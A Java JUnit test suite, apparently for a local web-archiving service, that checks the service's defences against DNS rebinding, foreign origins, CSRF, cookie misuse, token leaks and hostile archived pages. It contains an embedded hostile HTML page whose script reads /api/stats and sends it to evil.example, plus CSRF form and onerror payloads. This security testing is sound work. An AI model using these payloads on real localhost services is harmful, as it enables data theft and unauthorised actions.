package dev.pagekeep.hardening;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.pagekeep.testing.HostileServer;
import dev.pagekeep.testing.RawHttp;
import dev.pagekeep.testing.RawHttp.Reply;
import java.io.ByteArrayOutputStream;
import java.io.OutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * A web page, a rebinding DNS name or a careless URL trying to use the service on 127.0.0.1.
 * Every attempt must be refused with nothing changed (stats and saves identical before and
 * after) and nothing read (no archive data in the answer), and the service's own output must
 * never carry the token or a query string.
 */
@Timeout(60)
class LocalhostAttacksTest {
  /** A page title and URL that must never show up in a refused answer. */
  private static final String SECRET = "secret-reading-7f3a";

  @TempDir Path dir;
  private Harness h;
  private String secretUrl;
  private String before;
  private int attempts;
  private final ByteArrayOutputStream output = new ByteArrayOutputStream();
  private PrintStream realOut;
  private PrintStream realErr;

  @BeforeEach
  void start() throws Exception {
    realOut = System.out;
    realErr = System.err;
    System.setOut(tee(realOut));
    System.setErr(tee(realErr));
    h = new Harness(dir);
    secretUrl = h.site.url("/page/" + SECRET);
    JsonNode done = h.awaitFinished(h.save(secretUrl), Duration.ofSeconds(10));
    assertThat(done.path("state").asText()).isEqualTo("done");
    awaitIdle();
    before = everything();
    assertThat(before).contains(SECRET);
  }

  @AfterEach
  void stop() {
    try {
      h.close();
    } finally {
      System.setOut(realOut);
      System.setErr(realErr);
    }
    String log = output.toString(StandardCharsets.UTF_8);
    assertThat(log).as("service output").doesNotContain(h.token).doesNotContain("token=")
        .doesNotContain("auth=").doesNotContain("api_key=").doesNotContain("session=");
    realOut.printf("localhost attacks: %d refused requests%n", attempts);
  }

  private PrintStream tee(PrintStream real) {
    return new PrintStream(new OutputStream() {
      @Override public void write(int b) {
        real.write(b);
        synchronized (output) {
          output.write(b);
        }
      }

      @Override public void write(byte[] b, int off, int len) {
        real.write(b, off, len);
        synchronized (output) {
          output.write(b, off, len);
        }
      }
    }, true, StandardCharsets.UTF_8);
  }

  /** Stats plus every save and snapshot, as the token holder sees them. */
  private String everything() {
    return h.stats() + h.http.get("/api/saves?limit=1000").text() + h.http.get("/api/snapshots?limit=1000").text();
  }

  /** A finished save leaves the archiver's in-flight set a moment after its state turns done. */
  private void awaitIdle() throws InterruptedException {
    h.harness.awaitIdle();
  }

  private String host() { return "127.0.0.1:" + h.port(); }

  /** The requests an attacker would most like to get through: reads, writes, deletes, a login link. */
  private List<String[]> targets() {
    String hash = secretHash();
    return List.of(
        new String[] {"GET", "/api/stats", null},
        new String[] {"GET", "/api/snapshots", null},
        new String[] {"GET", "/api/snapshots/" + hash, null},
        new String[] {"GET", "/api/saves", null},
        new String[] {"GET", "/api/saves/1", null},
        new String[] {"GET", "/web/" + secretUrl, null},
        new String[] {"GET", "/", null},
        new String[] {"POST", "/api/saves", "{\"url\":\"" + h.site.url("/page/planted") + "\"}"},
        new String[] {"POST", "/api/login-links", "{}"},
        new String[] {"POST", "/api/saves/1/retry", null},
        new String[] {"DELETE", "/api/snapshots/" + hash, null},
        new String[] {"DELETE", "/api/saves/1", null});
  }

  private String secretHash() {
    return dev.pagekeep.model.UrlKeys.hashUrl(secretUrl);
  }

  /** Sends exactly these headers (plus Connection: close and Content-Length). */
  private Reply send(String method, String path, Map<String, String> headers, String body) {
    attempts++;
    return RawHttp.raw(h.port(), method, path, headers, body == null ? null : body.getBytes(StandardCharsets.UTF_8));
  }

  private void assertRefused(String what, Reply r, int... statuses) {
    assertThat(r.status()).as(what + ": " + r.text()).isIn((Object[]) box(statuses));
    if (!String.valueOf(r.header("Content-Type")).startsWith("text/html")) {
      assertThat(r.json().path("error").path("code").asText()).as(what + ": " + r.headers() + r.text()).isNotEmpty();
    }
    String body = r.text();
    assertThat(body).as(what).doesNotContain(SECRET).doesNotContain(secretHash()).doesNotContain("\"snapshots\"")
        .doesNotContain("\"saves\"").doesNotContain("/login?").doesNotContain("\tat ").doesNotContain("Exception");
    assertThat(r.header("Access-Control-Allow-Origin")).as(what).isNull();
    assertThat(r.header("Access-Control-Allow-Credentials")).as(what).isNull();
    assertThat(r.header("Set-Cookie")).as(what).isNull();
  }

  private static Integer[] box(int[] a) {
    Integer[] b = new Integer[a.length];
    for (int i = 0; i < a.length; i++) b[i] = a[i];
    return b;
  }

  private void assertNothingChanged() {
    assertThat(everything()).isEqualTo(before);
    h.assertHealthy();
  }

  private Map<String, String> headers(String... kv) {
    Map<String, String> m = new LinkedHashMap<>();
    for (int i = 0; i < kv.length; i += 2) m.put(kv[i], kv[i + 1]);
    return m;
  }

  private Map<String, String> withBody(Map<String, String> m, String body, String type) {
    if (body != null && !m.containsKey("Content-Type")) m.put("Content-Type", type);
    return m;
  }

  @Test
  void foreignHostsAreRefusedEvenWithTheToken() {
    int port = h.port();
    List<String> hosts = List.of("attacker.example:" + port, "attacker.example", "127.0.0.1", "127.0.0.1:1",
        "localhost.attacker.example:" + port, "127.0.0.1.nip.io:" + port, "0.0.0.0:" + port, "127.1:" + port,
        "2130706433:" + port, "[::ffff:127.0.0.1]:" + port, "127.0.0.1:" + port + ".attacker.example",
        "127.0.0.1:" + port + "@attacker.example", "127.0.0.1 :" + port, "127.0.0.1:0" + port);
    for (String host : hosts) {
      for (boolean withToken : new boolean[] {true, false}) {
        for (String[] t : targets()) {
          Map<String, String> hs = headers("Host", host);
          if (withToken) hs.put("Authorization", "Bearer " + h.token);
          Reply r = send(t[0], t[1], withBody(hs, t[2], "application/json"), t[2]);
          assertRefused(host + " " + t[0] + " " + t[1], r, 400, 403);
        }
      }
    }
    // No Host at all, two Hosts, and an absolute-form target naming our host with a foreign Host.
    assertRefused("no Host", send("GET", "/api/stats", headers("Authorization", "Bearer " + h.token), null), 400, 403);
    assertRefused("absolute-form", send("GET", "http://" + host() + "/api/stats",
        headers("Host", "attacker.example:" + port), null), 400, 403);
    assertNothingChanged();
  }

  @Test
  void twoHostHeadersAreRefused() throws Exception {
    try (var s = new java.net.Socket(java.net.InetAddress.getLoopbackAddress(), h.port())) {
      s.getOutputStream().write(("GET /api/stats HTTP/1.1\r\nHost: " + host() + "\r\nHost: attacker.example\r\n"
          + "Authorization: Bearer " + h.token + "\r\nConnection: close\r\n\r\n").getBytes(StandardCharsets.UTF_8));
      String answer = new String(s.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
      attempts++;
      assertThat(answer).startsWith("HTTP/1.1 400").doesNotContain(SECRET).doesNotContain("\"snapshots\"");
    }
    assertNothingChanged();
  }

  @Test
  void foreignOriginsAreRefusedWithOrWithoutTheToken() {
    int port = h.port();
    List<String> origins = List.of("https://evil.example", "null", "http://127.0.0.1:1", "http://localhost:1",
        "http://127.0.0.1:" + port + ".evil.example", "http://evil.example:" + port, "https://127.0.0.1:" + port,
        "file://", "http://127.0.0.1", "moz-extension", "chrome-extension:/x");
    for (String origin : origins) {
      for (boolean withToken : new boolean[] {true, false}) {
        for (String[] t : targets()) {
          Map<String, String> hs = headers("Host", host(), "Origin", origin);
          if (withToken) hs.put("Authorization", "Bearer " + h.token);
          assertRefused(origin + " " + t[0] + " " + t[1], send(t[0], t[1], withBody(hs, t[2], "application/json"), t[2]), 403);
        }
      }
    }
    // An extension origin still needs the token.
    for (String[] t : targets()) {
      Map<String, String> hs = headers("Host", host(), "Origin", "chrome-extension://abcdefghijklmnopabcdefghijklmnop");
      assertRefused("extension without token " + t[1], send(t[0], t[1], withBody(hs, t[2], "application/json"), t[2]), 403);
    }
    assertNothingChanged();
  }

  @Test
  void crossSiteFormPostsAreRefusedEvenWithASessionCookie() {
    String session = loginCookie();
    String json = "{\"url\":\"" + h.site.url("/page/planted") + "\"}";
    List<String> types = List.of("text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
        "text/plain; charset=utf-8", "application/json");
    for (String type : types) {
      for (String cookie : new String[] {null, session}) {
        // A page on another site: the browser sends its Origin (and, for SameSite=Strict, no cookie; we send it anyway).
        Map<String, String> evil = headers("Host", host(), "Origin", "https://evil.example", "Content-Type", type,
            "Sec-Fetch-Site", "cross-site", "Sec-Fetch-Mode", "navigate");
        if (cookie != null) evil.put("Cookie", cookie);
        assertRefused("form " + type + " cookie=" + (cookie != null), send("POST", "/api/saves", evil, json), 403);
        // A browser that leaves Origin out but says cross-site.
        Map<String, String> noOrigin = headers("Host", host(), "Content-Type", type, "Sec-Fetch-Site", "cross-site");
        if (cookie != null) noOrigin.put("Cookie", cookie);
        assertRefused("form without Origin " + type, send("POST", "/api/saves", noOrigin, json), 403);
        Map<String, String> nullOrigin = headers("Host", host(), "Origin", "null", "Content-Type", type);
        if (cookie != null) nullOrigin.put("Cookie", cookie);
        assertRefused("form from Origin null " + type, send("POST", "/api/saves", nullOrigin, json), 403);
      }
    }
    // Even a same-origin text/plain post (what a form on a replayed page would be) is not a save.
    Map<String, String> same = headers("Host", host(), "Origin", "http://" + host(), "Content-Type", "text/plain", "Cookie", session,
        "Sec-Fetch-Site", "same-origin", "Sec-Fetch-Dest", "document", "Sec-Fetch-Mode", "navigate");
    assertRefused("same-origin form post", send("POST", "/api/saves", same, json), 403);
    same.put("Sec-Fetch-Dest", "empty");
    assertRefused("same-origin text/plain fetch without the UI's key", send("POST", "/api/saves", same, json), 401);
    same.put("X-Pagekeep-Key", sessionKey);
    assertRefused("same-origin text/plain fetch", send("POST", "/api/saves", same, json), 415);
    assertNothingChanged();
  }

  @Test
  void theSessionCookieOpensTheApiOnlyToFetchesOfPagekeepsOwnPages() {
    String session = loginCookie();
    // What an archived page on this origin can make the browser send: images, styles, frames, navigations.
    for (String dest : new String[] {"image", "style", "iframe", "document", "font", "script", "object", "embed"}) {
      for (String path : new String[] {"/api/stats", "/api/export?format=warc", "/api/snapshots"}) {
        Map<String, String> hs = headers("Host", host(), "Cookie", session, "Sec-Fetch-Site", "same-origin", "Sec-Fetch-Dest", dest,
            "Sec-Fetch-Mode", dest.equals("document") || dest.equals("iframe") ? "navigate" : "no-cors");
        Reply r = send("GET", path, hs, null);
        assertRefused(dest + " " + path, r, 403);
        assertThat(r.json().path("error").path("code").asText()).isEqualTo("not_a_fetch");
      }
      // The same cookie on a POST that mints a login link (full access) is refused too.
      Map<String, String> post = headers("Host", host(), "Cookie", session, "Origin", "http://" + host(),
          "Sec-Fetch-Site", "same-origin", "Sec-Fetch-Dest", dest, "Content-Type", "application/json");
      assertRefused("login link from " + dest, send("POST", "/api/login-links", withBody(post, "{}", "application/json"), "{}"), 403);
    }
    // No fetch metadata at all (not a browser): the cookie is not enough.
    assertRefused("no metadata", send("GET", "/api/stats", headers("Host", host(), "Cookie", session), null), 403);
    // The UI's own fetch passes; replay and the UI's pages stay reachable by navigation.
    Map<String, String> fetch = headers("Host", host(), "Cookie", session, "Sec-Fetch-Site", "same-origin", "Sec-Fetch-Dest", "empty",
        "Sec-Fetch-Mode", "cors");
    assertThat(send("GET", "/api/stats", fetch, null).status()).as("the cookie alone, even on a fetch").isEqualTo(401);
    fetch.put("X-Pagekeep-Key", sessionKey);
    assertThat(send("GET", "/api/stats", fetch, null).status()).isEqualTo(200);
    Map<String, String> nav = headers("Host", host(), "Cookie", session, "Sec-Fetch-Site", "none", "Sec-Fetch-Dest", "document",
        "Sec-Fetch-Mode", "navigate");
    assertThat(send("GET", "/", nav, null).status()).isEqualTo(200);
    assertNothingChanged();
  }

  @Test
  void preflightFromAForeignOriginGetsNoCorsGrant() {
    for (String[] t : targets()) {
      for (String origin : List.of("https://evil.example", "null")) {
        Map<String, String> hs = headers("Host", host(), "Origin", origin, "Access-Control-Request-Method", t[0],
            "Access-Control-Request-Headers", "authorization, content-type");
        Reply r = send("OPTIONS", t[1], hs, null);
        assertRefused("preflight " + origin + " " + t[1], r, 403);
        assertThat(r.header("Access-Control-Allow-Methods")).isNull();
        assertThat(r.header("Access-Control-Allow-Headers")).isNull();
      }
    }
    assertNothingChanged();
  }

  @Test
  void noTokenOrAWrongTokenReadsNothing() {
    String t = h.token;
    List<Map<String, String>> wrong = List.of(
        headers(),
        headers("Authorization", "Bearer wrong"),
        headers("Authorization", "Bearer "),
        headers("Authorization", "Bearer " + t.substring(1)),
        headers("Authorization", "Bearer " + t + "x"),
        headers("Authorization", "Bearer " + t.substring(0, t.length() - 1) + (t.endsWith("a") ? "b" : "a")),
        headers("Authorization", "Bearer " + t.toUpperCase()),
        headers("Authorization", "Bearer " + t + "\u00e9"),
        headers("Authorization", "Basic " + Base64.getEncoder().encodeToString((t + ":").getBytes(StandardCharsets.UTF_8))),
        headers("Authorization", "Basic " + Base64.getEncoder().encodeToString(("x:" + t).getBytes(StandardCharsets.UTF_8))),
        headers("Authorization", "Token " + t),
        headers("Authorization", t),
        headers("X-Api-Token", t),
        headers("X-Pagekeep-Token", t),
        headers("Cookie", "pagekeep_session=" + t),
        headers("Cookie", "pagekeep_session=" + "0".repeat(48)),
        headers("Cookie", "token=" + t));
    for (Map<String, String> creds : wrong) {
      for (String[] target : targets()) {
        Map<String, String> hs = new LinkedHashMap<>(creds);
        hs.put("Host", host());
        assertRefused(creds + " " + target[0] + " " + target[1], send(target[0], target[1], withBody(hs, target[2], "application/json"), target[2]), 401);
      }
    }
    assertNothingChanged();
  }

  @Test
  void theTokenInAUrlAuthenticatesNothingAndIsNeverLogged() {
    String t = h.token;
    for (String[] target : targets()) {
      for (String param : List.of("token", "access_token", "auth", "bearer", "api_key", "session")) {
        String sep = target[1].contains("?") ? "&" : "?";
        Map<String, String> hs = withBody(headers("Host", host()), target[2], "application/json");
        assertRefused(param + " in " + target[1], send(target[0], target[1] + sep + param + "=" + t, hs, target[2]), 401);
      }
    }
    // The login link takes one-time codes only: the long-lived token in a login URL gives no session.
    Reply login = send("GET", "/login?token=" + t, headers("Host", host()), null);
    assertRefused("/login?token=<API token>", login, 401);
    // A real one-time code works once, then never again.
    String link = h.http.post("/api/login-links", Map.of()).json().path("url").asText();
    String path = link.substring(link.indexOf("/login"));
    assertThat(send("GET", path, headers("Host", host()), null).status()).isEqualTo(303);
    assertRefused("used login code", send("GET", path, headers("Host", host()), null), 401);
    before = everything(); // the login link is not archive data; re-baseline
    // Make the service log something about a failed request path, then check its output in stop().
    send("GET", "/api/nothing?token=" + t, headers("Host", host(), "Authorization", "Bearer " + t), null);
    assertNothingChanged();
  }

  @Test
  void replayedPagesCarryTheCspThatKeepsThemAwayFromTheApi() throws Exception {
    String hostile = "<!doctype html><title>hostile " + "</title>"
        + "<script>fetch('/api/stats').then(r=>r.text()).then(t=>fetch('https://evil.example/?'+t))</script>"
        + "<form id=f action=/api/saves method=post enctype=text/plain><input name='{\"url\":\"x' value='\"}'></form>"
        + "<img src=/api/stats onerror=\"document.forms[0].submit()\"><a href=\"javascript:fetch('/api/login-links',{method:'POST'})\">x</a>"
        + "<iframe src=/api/stats></iframe><meta http-equiv=refresh content=\"0;url=/api/login-links\">"
        + "<link rel=stylesheet href=/style.css><svg><script>fetch('/api/stats')</script></svg>";
    try (HostileServer page = new HostileServer("page", (p, s, out) -> {
      byte[] b = (p.equals("/style.css") ? "body{background:url(/api/stats)}" : hostile).getBytes(StandardCharsets.UTF_8);
      out.write(("HTTP/1.1 200 OK\r\nContent-Type: " + (p.equals("/style.css") ? "text/css" : "text/html")
          + "\r\nContent-Length: " + b.length + "\r\n\r\n").getBytes(StandardCharsets.US_ASCII));
      out.write(b);
    })) {
      JsonNode done = h.awaitFinished(h.save(page.url("/hostile")), Duration.ofSeconds(10));
      assertThat(done.path("state").asText()).isEqualTo("done");
      awaitIdle();
      before = everything();
      String ts = done.path("snapshot").path("timestamp").asText();
      // The replay page runs only pagekeep's own script, never frames the hostile page without the sandbox.
      Reply framed = h.http.get("/web/" + ts + "/" + page.url("/hostile"));
      assertThat(framed.status()).isEqualTo(200);
      assertThat(framed.header("Content-Security-Policy")).contains("script-src 'self'").contains("connect-src 'none'")
          .contains("frame-ancestors 'none'").doesNotContain("unsafe");
      org.jsoup.nodes.Document replayPage = org.jsoup.Jsoup.parse(framed.text());
      assertThat(replayPage.select("script").eachAttr("src")).containsExactly("/ui/replay.js");
      assertThat(replayPage.getElementById("pagekeep-frame").attr("sandbox")).doesNotContain("allow-scripts");
      assertThat(framed.text().toLowerCase()).doesNotContain("javascript:").doesNotContain("onerror");
      List<String> replays = new ArrayList<>(List.of(
          "/web/" + ts + "mp_/" + page.url("/hostile"), "/web/" + page.url("/hostile"), // exact, and a redirect to it
          "/web/" + ts + "if_/" + page.url("/hostile"), "/web/" + ts + "zz_/" + page.url("/hostile"),
          "/web/" + ts + "cs_/" + page.url("/style.css"), "/web/" + ts + "/" + page.url("/style.css"),
          "/web/" + ts + "mp_/" + page.url("/not-archived"), "/web/20000101000000mp_/" + page.url("/hostile")));
      for (String path : replays) {
        Reply r = h.http.get(path);
        assertThat(r.status()).as(path).isIn(200, 302, 404);
        String csp = r.header("Content-Security-Policy");
        assertThat(csp).as(path).contains("default-src 'none'").contains("script-src 'none'").contains("connect-src 'none'")
            .contains("form-action 'none'").contains("base-uri 'none'").contains("worker-src 'none'");
        assertThat(csp).as(path).contains("sandbox").doesNotContain("allow-scripts").doesNotContain("allow-forms");
        assertThat(r.header("Access-Control-Allow-Origin")).isNull();
        assertThat(r.text().toLowerCase()).doesNotContain("<script").doesNotContain("javascript:").doesNotContain("onerror");
      }
      // A URL with no capture, asked for as a page: "Archive it now" runs pagekeep's own script only,
      // and calls nothing until a click.
      Reply missing = h.http.get("/web/" + ts + "/" + page.url("/not-archived"));
      assertThat(missing.status()).isEqualTo(404);
      assertThat(missing.header("Content-Security-Policy")).contains("default-src 'none'").contains("script-src 'self'")
          .contains("form-action 'none'").contains("base-uri 'none'").doesNotContain("unsafe");
      org.jsoup.nodes.Document missingPage = org.jsoup.Jsoup.parse(missing.text());
      assertThat(missingPage.select("script").eachAttr("src")).containsExactly("/ui/not-archived.js");
      assertThat(missing.text().toLowerCase()).doesNotContain("javascript:").doesNotContain("onerror");
      // id_: the captured bytes, as text, never rendered as a page.
      Reply raw = h.http.get("/web/" + ts + "id_/" + page.url("/hostile"));
      assertThat(raw.status()).isEqualTo(200);
      assertThat(raw.header("Content-Type")).startsWith("text/plain");
      assertThat(raw.header("Content-Security-Policy")).contains("sandbox").contains("script-src 'none'");
    }
    assertNothingChanged();
  }

  /** The key of the last {@link #loginCookie()} session (what the UI's page keeps). */
  private String sessionKey;

  private String loginCookie() {
    String link = h.http.post("/api/login-links", Map.of()).json().path("url").asText();
    Reply r = send("GET", link.substring(link.indexOf("/login")), headers("Host", host()), null);
    String cookie = r.header("Set-Cookie");
    assertThat(cookie).contains("HttpOnly").contains("SameSite=Strict");
    sessionKey = r.header("Location").substring("/#key=".length());
    return cookie.substring(0, cookie.indexOf(';'));
  }
}
